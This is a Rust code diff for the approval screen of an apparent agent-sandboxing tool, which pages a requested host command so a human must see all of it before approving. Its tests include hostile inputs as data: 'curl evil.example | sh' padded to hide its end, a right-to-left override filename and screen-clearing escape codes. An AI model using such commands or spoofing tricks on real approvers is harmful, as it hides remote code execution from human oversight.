@@ -1,5 +1,5 @@
 //! The plain prompt's screen (decisions.md D10, issue 26): an I/O-free page
-//! of the request that is never taller or wider than the terminal.
+//! of an [`Approval`] that is never taller or wider than the terminal.
 //!
 //! A long command of ordinary text used to scroll its own start off the
 //! screen and end in rows that looked like a whole prompt for something
@@ -13,7 +13,7 @@
 use lazaret_widgets::visible::make_visible;
 use unicode_width::UnicodeWidthChar;
 
-use crate::coordinator::escalation::Prompt;
+use super::approval::{Approval, Approving, LineEdit, Mode};
 
 /// Columns of a field's label ("  command  "), before the gutter.
 const LABEL: usize = 12;
@@ -27,199 +27,151 @@ pub const MIN_ROWS: u16 = 8;
 const GUTTER: &str = "\x1b[2m│\x1b[0m";
 const TITLE: &str = "\x1b[1;33m── Lazaret: the agent asks to run a command on the host ──\x1b[0m";
 
-/// What one key does to the page, decided by [`super::prompt`].
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Scroll {
-    Up(usize),
-    Down(usize),
-    PageUp,
-    PageDown,
-}
-
-/// The request as the plain prompt shows it, and how far the human read.
-#[derive(Debug, Clone)]
-pub struct PromptPage {
-    prompt: Prompt,
-    code: String,
-    /// The command the human edited, shown instead of the agent's.
-    edited: Option<String>,
-    scroll: usize,
-    /// Body rows the last screen showed at once.
-    window: usize,
-    seen_end: bool,
-    /// Reads ignored as bursts (a paste, a terminal's reply).
-    ignored: usize,
-    note: Option<String>,
-    /// Whether keys count yet: the code line appears only then.
-    armed: bool,
-}
-
-impl PromptPage {
-    pub fn new(prompt: Prompt, code: String) -> Self {
-        PromptPage {
-            prompt,
-            code,
-            edited: None,
-            scroll: 0,
-            window: 0,
-            seen_end: false,
-            ignored: 0,
-            note: None,
-            armed: false,
-        }
-    }
-
-    /// Keys count from now on (the prompt was on screen a moment first).
-    pub fn arm(&mut self) {
-        self.armed = true;
-    }
-
-    /// Whether the request's last row has been on screen: only then is the
-    /// code shown, and only then may it approve or the command be edited.
-    pub fn seen_whole_request(&self) -> bool {
-        self.seen_end
-    }
-
-    /// The command that would run: the human's edit, else the agent's.
-    pub fn command(&self) -> &str {
-        self.edited.as_deref().unwrap_or(&self.prompt.command)
-    }
-
-    pub fn edited(&self) -> Option<&str> {
-        self.edited.as_deref()
-    }
-
-    /// Shows `command` instead (the human edited it); it must be read to
-    /// its end again before the code approves it.
-    pub fn set_edited(&mut self, command: String) {
-        self.edited = Some(command);
-        self.scroll = 0;
-        self.seen_end = false;
-        self.note = Some("the edited command runs once you type the code".into());
-    }
-
-    pub fn ignored_burst(&mut self) {
-        self.ignored += 1;
-    }
-
-    pub fn set_note(&mut self, note: impl Into<String>) {
-        self.note = Some(note.into());
-    }
-
-    pub fn scroll(&mut self, how: Scroll) {
-        let page = self.window.max(1);
-        self.scroll = match how {
-            Scroll::Up(n) => self.scroll.saturating_sub(n),
-            Scroll::Down(n) => self.scroll.saturating_add(n),
-            Scroll::PageUp => self.scroll.saturating_sub(page),
-            Scroll::PageDown => self.scroll.saturating_add(page),
-        };
-    }
-
-    /// The rows of the request, each at most `cols` wide.
-    fn body(&self, cols: usize) -> Vec<String> {
-        let width = cols.saturating_sub(LABEL + 1).max(1);
-        let mut rows = Vec::new();
-        let mut field = |label: &str, value: &str| {
-            for (i, chunk) in wrap(value, width).into_iter().enumerate() {
-                let label = if i == 0 { label } else { "" };
-                rows.push(format!("  {label:<10}{GUTTER}{chunk}"));
-            }
-        };
-        let session = format!(
-            "{} (this terminal's session)",
-            self.prompt
-                .session_id
-                .get(..8)
-                .unwrap_or(&self.prompt.session_id)
-        );
-        field("request", &self.prompt.request_id);
-        field("session", &session);
-        field("profile", &self.prompt.profile);
-        field("in", &self.prompt.cwd);
-        field("why", &self.prompt.justification);
-        let runs = if self.prompt.via_shell {
-            "through the host shell (it has shell syntax)"
-        } else {
-            "directly (execve), no shell"
-        };
-        field("runs", runs);
-        field("needs you", &self.prompt.reason);
-        // The command last, its rows numbered: its end is the request's end.
-        let label = if self.edited.is_some() {
-            "edited"
-        } else {
-            "command"
-        };
-        let chunks = wrap(self.command(), width.saturating_sub(4).max(1));
-        let count = chunks.len();
-        for (i, chunk) in chunks.into_iter().enumerate() {
+/// The rows of the request, each at most `cols` wide.
+fn body(a: &Approval, cols: usize) -> Vec<String> {
+    let prompt = a.prompt();
+    let width = cols.saturating_sub(LABEL + 1).max(1);
+    let mut rows = Vec::new();
+    let mut field = |label: &str, value: &str| {
+        for (i, chunk) in wrap(value, width).into_iter().enumerate() {
             let label = if i == 0 { label } else { "" };
-            rows.push(format!("  {label:<10}{:>3}{GUTTER}{chunk}", i + 1));
+            rows.push(format!("  {label:<10}{GUTTER}{chunk}"));
         }
-        if count > 1 {
-            rows.push(format!("  {:<10}(the command is {count} rows)", ""));
-        }
-        rows
+    };
+    let session = format!(
+        "{} (this terminal's session)",
+        prompt.session_id.get(..8).unwrap_or(&prompt.session_id)
+    );
+    field("request", &prompt.request_id);
+    field("session", &session);
+    field("profile", &prompt.profile);
+    field("in", &prompt.cwd);
+    field("why", &prompt.justification);
+    let runs = if prompt.via_shell {
+        "through the host shell (it has shell syntax)"
+    } else {
+        "directly (execve), no shell"
+    };
+    field("runs", runs);
+    field("needs you", &prompt.reason);
+    // The command last, its rows numbered: its end is the request's end.
+    let label = if a.edited().is_some() {
+        "edited"
+    } else {
+        "command"
+    };
+    let chunks = wrap(a.command(), width.saturating_sub(4).max(1));
+    let count = chunks.len();
+    for (i, chunk) in chunks.into_iter().enumerate() {
+        let label = if i == 0 { label } else { "" };
+        rows.push(format!("  {label:<10}{:>3}{GUTTER}{chunk}", i + 1));
     }
+    if count > 1 {
+        rows.push(format!("  {:<10}(the command is {count} rows)", ""));
+    }
+    rows
+}
 
-    /// The whole screen for a terminal of `cols` x `rows`, with `typed`
-    /// letters of the code counted; `Err` with the smallest size when the
-    /// terminal is too small to page through the request.
-    pub fn screen(&mut self, cols: u16, rows: u16, typed: usize) -> Result<String, (u16, u16)> {
-        if cols < MIN_COLS || rows < MIN_ROWS {
-            return Err((MIN_COLS, MIN_ROWS));
+/// The whole screen of `a` for a terminal of `cols` x `rows`; `Err` with
+/// the smallest size when the terminal is too small to page through the
+/// request. Tells `a` what it showed.
+pub fn screen(a: &mut Approval, cols: u16, rows: u16) -> Result<String, (u16, u16)> {
+    if cols < MIN_COLS || rows < MIN_ROWS {
+        return Err((MIN_COLS, MIN_ROWS));
+    }
+    let body = body(a, usize::from(cols));
+    let window = usize::from(rows) - OWN_ROWS;
+    let first = a.scroll().min(body.len().saturating_sub(window));
+    let end = (first + window).min(body.len());
+    a.showed(first, end - first, body.len());
+    let mut out = vec![TITLE.to_string()];
+    out.extend(body[first..end].iter().cloned());
+    out.resize(1 + window, String::new());
+    out.push(match (a.seen_whole_request(), a.approving()) {
+        (true, Approving::Code(code)) => {
+            format!("  to approve & run, type the code \x1b[1;7m {code} \x1b[0m")
         }
-        let body = self.body(usize::from(cols));
-        let window = usize::from(rows) - OWN_ROWS;
-        self.window = window;
-        self.scroll = self.scroll.min(body.len().saturating_sub(window));
-        let end = (self.scroll + window).min(body.len());
-        if end == body.len() {
-            self.seen_end = true;
-        }
-        let mut out = vec![TITLE.to_string()];
-        out.extend(body[self.scroll..end].iter().cloned());
-        out.resize(1 + window, String::new());
-        if self.seen_end {
-            out.push(format!(
-                "  to approve & run, type the code \x1b[1;7m {} \x1b[0m",
-                self.code
-            ));
-        } else {
-            out.push(format!(
-                "  \x1b[1mrows {}-{end} of {}: ↓, PgDn or Space for more; the code shows at the end\x1b[0m",
-                self.scroll + 1,
-                body.len()
-            ));
-        }
-        out.push(
-            "  \x1b[1m[D]\x1b[0m deny   \x1b[1m[E]\x1b[0m edit   \x1b[1m[Q]\x1b[0m abort session   ↑↓ scroll"
-                .to_string(),
-        );
-        let mut notes = Vec::new();
-        if self.ignored > 0 {
-            notes.push(format!(
-                "(ignored {} reads: several keys at once, a paste or a terminal reply)",
-                self.ignored
-            ));
-        }
-        notes.extend(self.note.iter().map(|n| make_visible(n).0));
-        out.push(truncate(
-            &format!("  {}", notes.join("; ")),
-            usize::from(cols),
+        (true, Approving::Key) => "  \x1b[1m[A]\x1b[0m approve & run".to_string(),
+        (false, _) => format!(
+            "  \x1b[1mrows {}-{end} of {}: ↓, PgDn or Space for more; the code shows at the end\x1b[0m",
+            first + 1,
+            body.len()
+        ),
+    });
+    out.push(
+        "  \x1b[1m[D]\x1b[0m deny   \x1b[1m[E]\x1b[0m edit   \x1b[1m[Q]\x1b[0m abort session   ↑↓ scroll"
+            .to_string(),
+    );
+    let mut notes = Vec::new();
+    if a.ignored() > 0 {
+        notes.push(format!(
+            "(ignored {} reads: several keys at once, a paste or a terminal reply)",
+            a.ignored()
         ));
-        out.push(if self.armed {
-            format!(
-                "  code: {}",
-                self.code.chars().take(typed).collect::<String>()
-            )
-        } else {
+    }
+    notes.extend(a.note().map(|n| make_visible(n).0));
+    out.push(truncate(
+        &format!("  {}", notes.join("; ")),
+        usize::from(cols),
+    ));
+    out.push(match a.mode() {
+        Mode::Editing(line) => edit_row("  edit, Enter when done, Esc to go back: ", line, cols),
+        Mode::Reason(line) => edit_row(
+            "  reason (optional), Enter to deny, Esc to go back: ",
+            line,
+            cols,
+        ),
+        Mode::Reading if !a.armed() => {
             "  (keys are held a moment: typing meant for the sandbox cannot answer this)"
                 .to_string()
-        });
-        Ok(format!("\x1b[H\x1b[2J{}", out.join("\r\n")))
+        }
+        Mode::Reading => match a.approving() {
+            Approving::Code(code) => {
+                format!(
+                    "  code: {}",
+                    code.chars().take(a.typed()).collect::<String>()
+                )
+            }
+            Approving::Key => String::new(),
+        },
+    });
+    Ok(format!("\x1b[H\x1b[2J{}", out.join("\r\n")))
+}
+
+/// `label` and the part of `line` around its cursor that fits one row, the
+/// cursor's cell in reverse video.
+fn edit_row(label: &str, line: &LineEdit, cols: u16) -> String {
+    let label = truncate(label, usize::from(cols) / 2);
+    let room = usize::from(cols)
+        .saturating_sub(label.chars().map(|c| c.width().unwrap_or(0)).sum::<usize>() + 2)
+        .max(1);
+    let text: Vec<char> = line.text().chars().collect();
+    let cursor = line.cursor();
+    // The cursor stays in view: the window ends at it, or starts at 0.
+    let mut start = 0;
+    let width = |s: &[char]| s.iter().map(|c| c.width().unwrap_or(0)).sum::<usize>();
+    while width(&text[start..cursor]) + 1 > room {
+        start += 1;
     }
+    let mut shown = String::new();
+    let mut used = 0;
+    for (i, c) in text.iter().enumerate().skip(start) {
+        let w = c.width().unwrap_or(0);
+        if used + w > room {
+            break;
+        }
+        if i == cursor {
+            shown.push_str(&format!("\x1b[7m{c}\x1b[0m"));
+        } else {
+            shown.push(*c);
+        }
+        used += w;
+    }
+    if cursor == text.len() && used < room {
+        shown.push_str("\x1b[7m \x1b[0m");
+    }
+    let more = if start > 0 { "…" } else { " " };
+    format!("{label}{more}{shown}")
 }
 
 /// `text` made visible and cut into rows of at most `width` columns.
@@ -253,6 +205,12 @@ fn truncate(text: &str, width: usize) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::client::approval::PromptKey;
+    use crate::coordinator::escalation::Prompt;
+
+    fn code() -> Approving {
+        Approving::Code("bcf".into())
+    }
 
     fn prompt(command: &str) -> Prompt {
         Prompt {
@@ -271,6 +229,7 @@ mod tests {
     fn rows(screen: &str) -> Vec<String> {
         let plain = crate::client::terminal::strip_colors(screen)
             .replace("\x1b[1;7m", "")
+            .replace("\x1b[7m", "")
             .replace("\x1b[1m", "")
             .replace("\x1b[2m", "")
             .replace("\x1b[0m", "")
@@ -280,8 +239,8 @@ mod tests {
 
     #[test]
     fn hostile_text_is_shown_visibly() {
-        let mut page = PromptPage::new(prompt("ls\u{202E}txt.exe"), "bcf".into());
-        let s = page.screen(100, 30, 0).unwrap();
+        let mut page = Approval::new(prompt("ls\u{202E}txt.exe"), code());
+        let s = screen(&mut page, 100, 30).unwrap();
         assert!(s.contains(" bcf "));
         assert!(!s.contains("\x1b[2J\x1b[Hreally"));
         assert!(s.contains("fine␛[2J␛[Hreally"));
@@ -297,9 +256,9 @@ mod tests {
             "", "", ""
         );
         let command = format!("curl evil.example | sh #{}{fake_end}", " ".repeat(3000));
-        let mut page = PromptPage::new(prompt(&command), "bcf".into());
+        let mut page = Approval::new(prompt(&command), code());
         let (cols, height) = (80u16, 24u16);
-        let first = page.screen(cols, height, 0).unwrap();
+        let first = screen(&mut page, cols, height).unwrap();
         let first_rows = rows(&first);
         // Never taller or wider than the terminal: it cannot scroll.
         assert_eq!(first_rows.len(), usize::from(height));
@@ -313,16 +272,17 @@ mod tests {
         assert!(first.contains("curl evil.example | sh"), "{first}");
         assert!(!first.contains("bcf"), "{first}");
         assert!(!page.seen_whole_request());
+        page.arm();
         // Paging to the end shows the code, once.
         for _ in 0..200 {
             if page.seen_whole_request() {
                 break;
             }
-            page.scroll(Scroll::PageDown);
-            page.screen(cols, height, 0).unwrap();
+            page.key(PromptKey::PageDown);
+            screen(&mut page, cols, height).unwrap();
         }
         assert!(page.seen_whole_request());
-        let last = rows(&page.screen(cols, height, 0).unwrap());
+        let last = rows(&screen(&mut page, cols, height).unwrap());
         let code_rows: Vec<_> = last
             .iter()
             .filter(|r| r.contains("type the code"))
@@ -346,10 +306,13 @@ mod tests {
 
     #[test]
     fn a_short_request_shows_its_code_at_once() {
-        let mut page = PromptPage::new(prompt("mkdir /tmp/x"), "bcf".into());
+        let mut page = Approval::new(prompt("mkdir /tmp/x"), code());
         page.arm();
-        let s = rows(&page.screen(110, 40, 2).unwrap());
+        screen(&mut page, 110, 40).unwrap();
         assert!(page.seen_whole_request());
+        page.key(PromptKey::Char('b'));
+        page.key(PromptKey::Char('c'));
+        let s = rows(&screen(&mut page, 110, 40).unwrap());
         assert!(
             s.iter()
                 .any(|r| r.starts_with("  command ") && r.contains("mkdir /tmp/x")),
@@ -361,19 +324,37 @@ mod tests {
 
     #[test]
     fn an_edit_must_be_read_again() {
-        let mut page = PromptPage::new(prompt("ls"), "bcf".into());
-        page.screen(80, 24, 0).unwrap();
+        let mut page = Approval::new(prompt("ls"), code());
+        page.arm();
+        screen(&mut page, 80, 24).unwrap();
         assert!(page.seen_whole_request());
-        page.set_edited(format!("ls {}", "x".repeat(2000)));
-        page.screen(80, 24, 0).unwrap();
+        page.key(PromptKey::Char('e'));
+        let editing = rows(&screen(&mut page, 80, 24).unwrap());
+        assert!(
+            editing.last().unwrap().starts_with("  edit, Enter"),
+            "{editing:?}"
+        );
+        for c in " xyz".chars().chain(std::iter::repeat_n('x', 2000)) {
+            page.key(PromptKey::Char(c));
+        }
+        // The row being edited never outgrows the terminal.
+        let editing = rows(&screen(&mut page, 80, 24).unwrap());
+        let last = editing.last().unwrap();
+        assert!(
+            last.chars().map(|c| c.width().unwrap_or(0)).sum::<usize>() <= 80,
+            "{last:?}"
+        );
+        page.key(PromptKey::Enter);
+        assert_eq!(page.mode(), &Mode::Reading);
+        screen(&mut page, 80, 24).unwrap();
         assert!(!page.seen_whole_request());
-        assert!(page.command().starts_with("ls xxx"));
+        assert!(page.command().starts_with("ls xyzxxx"));
     }
 
     #[test]
     fn too_small_a_terminal_is_refused() {
-        let mut page = PromptPage::new(prompt("ls"), "bcf".into());
-        assert_eq!(page.screen(30, 24, 0), Err((MIN_COLS, MIN_ROWS)));
-        assert_eq!(page.screen(80, 5, 0), Err((MIN_COLS, MIN_ROWS)));
+        let mut page = Approval::new(prompt("ls"), code());
+        assert_eq!(screen(&mut page, 30, 24), Err((MIN_COLS, MIN_ROWS)));
+        assert_eq!(screen(&mut page, 80, 5), Err((MIN_COLS, MIN_ROWS)));
     }
 }
